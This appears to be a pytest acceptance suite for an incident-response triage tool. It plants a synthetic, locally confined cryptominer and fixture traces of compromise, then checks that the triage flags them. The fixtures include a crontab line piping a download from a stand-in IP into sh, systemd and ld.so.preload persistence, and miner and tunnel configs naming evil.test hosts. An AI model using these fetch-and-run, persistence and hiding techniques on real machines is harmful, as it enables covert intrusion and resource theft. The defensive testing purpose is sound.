"""Acceptance for the triage run: a compromised host built on this machine, and a clean one.

Live parts are real: a compiled synthetic miner (hidden directory, kernel-thread name,
deleted after start, logged in to a stratum server on 127.0.0.1:3333). What a test cannot
create on the host itself (cron, systemd, ld.so.preload) is a fixture root given with --root.

The machine running the tests may run anything else, a miner-like process included: the
live tests assert only on records about the pids they started, and the clean verdict is
asserted on a fixture root with an empty fixture procfs, never on the live host.
"""

import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from conftest import irkit_env
from hostfixtures import write_tree
from livehost import assert_live_exit
from minersample import build_miner, stratum_server, synthetic_monero_wallet
from reportbundles import write_bundle
from stixcheck import assert_strictly_valid, misp_values

from irkit.hunt.rules import default_rules_path

pytestmark = pytest.mark.skipif(shutil.which("gcc") is None, reason="gcc builds the sample")


@pytest.fixture
def running_miner(tmp_path: Path):
    wallet = synthetic_monero_wallet()
    with stratum_server() as (port, logins):
        binary = build_miner(tmp_path, wallet, port)
        hidden = tmp_path / ".cache" / ".x"
        hidden.mkdir(parents=True)
        exe = hidden / "kworkerds"
        shutil.copy2(binary, exe)
        config = hidden / "c.json"
        config.write_text(json.dumps(CONFIG | {"log-file": str(hidden / "m.log")}))
        (hidden / "m.log").write_text(MINER_LOG)
        args = [
            str(exe),
            f"--url=stratum+tcp://127.0.0.1:{port}",
            f"--user={wallet}.rig01",
            "--donate-level=1",
            "-a",
            "rx/0",
            f"--config={config}",
        ]
        miner = subprocess.Popen(args, stdout=subprocess.PIPE)
        try:
            assert miner.stdout is not None
            assert miner.stdout.readline().strip() == b"ready"
            exe.unlink()
            yield miner, str(exe), wallet, port, logins
        finally:
            miner.kill()
            miner.wait()


CONFIG_WALLET = synthetic_monero_wallet(9)
CONFIG = {
    "donate-level": 1,
    "pools": [{"url": "pool.evil.test:14444", "user": CONFIG_WALLET, "rig-id": "cfgrig"}],
}
MINER_LOG = (
    "[2026-11-30 10:00:01.000]  net      use pool logpool.evil.test:3333  198.51.100.77\n"
    "[2026-11-30 10:00:02.000]  net      new job from logpool.evil.test:3333 diff 1000\n"
)
DROPPER = "http://198.51.100.23:8080/ldr.sh"


def compromised_root(base: Path, exe: str) -> Path:
    return write_tree(
        base,
        {
            "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
            "etc/crontab": (
                f"SHELL=/bin/sh\n*/5 * * * * root {exe} >/dev/null 2>&1\n"
                f"*/9 * * * * root curl -fsSL {DROPPER} | sh\n"
            ),
            "etc/systemd/system/kworker.service": (
                f"[Unit]\nDescription=kernel worker\n\n[Service]\nExecStart={exe}\n"
                "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n"
            ),
            "etc/ld.so.preload": "/usr/local/lib/libprocesshider.so\n",
        },
    )


def triage_json(run_irkit, root: Path, procfs: Path, out: Path, expected: int) -> tuple[dict, str]:
    """The JSON summary of a triage that exits `expected` (or 3 for reads this host denies)."""
    proc = run_irkit("triage", "--root", root, "--proc", procfs, "-o", out, "--json", timeout=600)
    assert_live_exit(proc, out, expected)
    return json.loads(proc.stdout), proc.stderr.decode()


@pytest.mark.slow
def test_triage_finds_the_planted_miner(tmp_path: Path, running_miner, run_irkit) -> None:
    miner, exe, wallet, port, logins = running_miner
    assert logins and logins[0]["method"] == "login"
    root = compromised_root(tmp_path / "root", exe)
    report, stderr = triage_json(run_irkit, root, Path("/proc"), tmp_path / "case.zip", 1)
    findings = report["findings"]
    mine = [f for f in findings if f["pid"] == miner.pid and f["source"] == "heuristic"]
    assert mine, stderr
    assert mine[0]["title"].startswith("likely miner")
    assert len(mine[0]["reasons"]) >= 3
    assert report["verdict"]["verdict"].startswith("COMPROMISED")
    iocs = {(i["ioc_type"], i["value"]): i for i in report["iocs"]}
    assert ("pool-host", f"127.0.0.1:{port}") in iocs
    assert ("wallet", wallet) in iocs
    assert ("worker", "rig01") in iocs
    assert iocs[("download-url", DROPPER)]["finding"] == "cron persistence: /etc/crontab:3"
    assert ("download-host", "198.51.100.23") in iocs
    # From the config the miner runs with, and from the log that config names.
    for key in (("pool-host", "pool.evil.test:14444"), ("wallet", CONFIG_WALLET),
                ("worker", "cfgrig")):  # fmt: skip
        assert iocs[key]["source"] == "config", iocs[key]
    assert iocs[("pool-host", "logpool.evil.test:3333")]["source"] == "log"
    # From memory: the flagged-memory hunt re-reads the whole config around each match.
    memory = {k for k, i in iocs.items() if "YARA" in i["context"] and "pid:" in i["context"]}
    assert {("wallet", wallet), ("worker", "rig01"), ("pool-host", f"127.0.0.1:{port}")} <= memory
    # Only flagged things: every IOC belongs to a finding, and no file IOC but the miner's.
    assert all(i["finding"] for i in report["iocs"]), report["iocs"]
    # (Of this test's own files: another program on a shared machine may be flagged too.)
    assert [v for k, v in iocs if k == "file" and v.startswith(str(tmp_path))] == [exe]
    persistence: dict[str, list[str]] = {}
    for f in findings:
        if "persistence" in f["title"]:
            persistence.setdefault(f["path"], []).extend(f["reasons"])
    for source in ("/etc/crontab", "/etc/systemd/system/kworker.service"):
        assert any(exe in r and f"pid {miner.pid}" in r for r in persistence[source])
    assert "/etc/ld.so.preload" in persistence
    verify = run_irkit("verify", tmp_path / "case.zip")
    assert verify.returncode == 0, verify.stderr.decode()
    stix = tmp_path / "iocs.stix.json"
    with zipfile.ZipFile(tmp_path / "case.zip") as bundle:
        stix.write_bytes(bundle.read("iocs.stix.json"))
    assert_strictly_valid(stix)
    file_hash = iocs[("file", exe)]["detail"]["sha256"]
    kept = {wallet, "rig01", CONFIG_WALLET, "cfgrig", DROPPER, "198.51.100.23", file_hash}
    assert kept <= misp_values(stix.read_bytes())


@pytest.mark.slow
def test_triage_of_a_clean_root_is_clean(tmp_path: Path, run_irkit) -> None:
    crontab = "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
    root = write_tree(
        tmp_path / "clean",
        {"etc/passwd": "root:x:0:0:root:/root:/bin/bash\n", "etc/crontab": crontab},
    )
    empty_procfs = tmp_path / "proc"
    empty_procfs.mkdir()
    report, stderr = triage_json(run_irkit, root, empty_procfs, tmp_path / "clean.zip", 0)
    serious = [f for f in report["findings"] if f["severity"] in ("medium", "high", "critical")]
    assert serious == [], stderr


def test_triage_needs_no_programs_on_path(tmp_path: Path, run_irkit) -> None:
    empty = tmp_path / "bin"
    empty.mkdir()
    proc = run_irkit(
        "triage", "-p", "quick", "-o", tmp_path / "q.zip", "-q", env=irkit_env(PATH=str(empty))
    )
    if proc.returncode != 1:
        assert_live_exit(proc, tmp_path / "q.zip")
    assert os.path.getsize(tmp_path / "q.zip") > 0


@pytest.mark.slow
def test_triage_with_memory_dumps_what_it_flags(tmp_path: Path, running_miner, run_irkit) -> None:
    miner, *_ = running_miner
    playbook = tmp_path / "dump.yaml"
    playbook.write_text(
        "name: dump-flagged\ncollectors:\n  sockets: {}\n  processes: {}\n"
        "  memory: {}\nlimits:\n  dump_bytes: 268435456\n"
    )
    out = tmp_path / "mem.zip"
    proc = run_irkit(
        "triage", "-p", playbook, "-o", out, "--root", tmp_path / "none", "--proc", "/proc", "-q"
    )
    assert_live_exit(proc, out, 1)
    with zipfile.ZipFile(out) as bundle:
        assert f"memory/pid-{miner.pid}.core" in bundle.namelist()
        dumps = [
            json.loads(line)
            for line in bundle.read("records/memory-flagged.jsonl").split(b"\n")
            if line
        ]
    assert miner.pid in {dump["pid"] for dump in dumps}


FRPC_CONFIG = 'serverAddr = "frp.evil.test"\nserverPort = 7000\n[[proxies]]\nremotePort = 6000\n'


@pytest.mark.slow
def test_a_tunnel_started_with_a_config_names_its_far_end(tmp_path: Path, run_irkit) -> None:
    """A live `frpc -c frpc.toml` (a harmless program under that name): the far end is only in
    its config, which the triage reads through /proc/PID/root and copies."""
    source = tmp_path / "pause.c"
    source.write_text("#include <unistd.h>\nint main(void) { pause(); return 0; }\n")
    frpc = tmp_path / "frpc"
    subprocess.run([shutil.which("gcc") or "gcc", "-o", str(frpc), str(source)], check=True)
    config = tmp_path / "frpc.toml"
    config.write_text(FRPC_CONFIG)
    playbook = tmp_path / "t.yaml"
    playbook.write_text("name: t\ncollectors:\n  processes: {cpu_interval: 0.1}\n  sockets: {}\n")
    tunnel = subprocess.Popen([str(frpc), "-c", "frpc.toml"], cwd=tmp_path)
    try:
        root = write_tree(tmp_path / "root", {"etc/passwd": "root:x:0:0::/root:/bin/sh\n"})
        report, stderr = triage_json(run_irkit, root, Path("/proc"), tmp_path / "t.zip", 1)
    finally:
        tunnel.kill()
        tunnel.wait()
    mine = next(f for f in report["findings"] if f["pid"] == tunnel.pid)
    assert mine["title"].startswith("tunnel"), stderr
    assert any("frp.evil.test:7000" in r and str(config) in r for r in mine["reasons"])
    ends = [i for i in report["iocs"] if i["finding"] == mine["title"]]
    # The far end from the config, and the tunnel binary dropped in a world-writable dir.
    assert {(i["ioc_type"], i["value"], i["source"]) for i in ends} == {
        ("tunnel-endpoint", "frp.evil.test:7000", "config"),
        ("file", str(frpc), "process"),
    }
    with zipfile.ZipFile(tmp_path / "t.zip") as bundle:
        assert any(n.endswith("frpc.toml") for n in bundle.namelist())


@pytest.mark.slow
def test_an_agent_sandbox_holding_only_irkit_material_is_clean(tmp_path: Path, run_irkit) -> None:
    """Earlier bundles, one unpacked for review, irkit's installed pack: none is the host's."""
    root = write_tree(tmp_path / "root", {"etc/passwd": "root:x:0:0::/root:/bin/sh\n"})
    home = root / "root"
    home.mkdir()
    earlier = tmp_path / "earlier.zip"
    write_bundle(earlier, {"records/x.jsonl": [{"type": "x", "cfg": json.dumps(CONFIG)}]})
    shutil.copy2(earlier, home / "case-1.zip")
    unpacked = home / "review" / "case-1"
    (unpacked / "files").mkdir(parents=True)
    (unpacked / "manifest.json").write_text('{"format": "irkit-bundle", "format_version": 1}')
    (unpacked / "files" / "config.json").write_text(json.dumps(CONFIG))
    shutil.copytree(default_rules_path(), home / ".local" / "irkit" / "data" / "yara")
    empty_procfs = tmp_path / "proc"
    empty_procfs.mkdir()
    proc = run_irkit(
        "triage", "-p", "ai-agent-sandbox", "--root", root, "--proc", empty_procfs,
        "-o", tmp_path / "a.zip", "--json", timeout=600,
    )  # fmt: skip
    assert_live_exit(proc, tmp_path / "a.zip", 0)
    report = json.loads(proc.stdout)
    assert report["verdict"]["verdict"] == "CLEAN", report["findings"]
    assert report["iocs"] == []
    with zipfile.ZipFile(tmp_path / "a.zip") as bundle:
        log = [json.loads(line) for line in bundle.read("collection.log").splitlines()]
    skipped = {e["detail"].get("reason") for e in log if e["outcome"] == "skipped"}
    assert {"an irkit bundle", "an unpacked irkit bundle", "a YARA rule file"} <= skipped
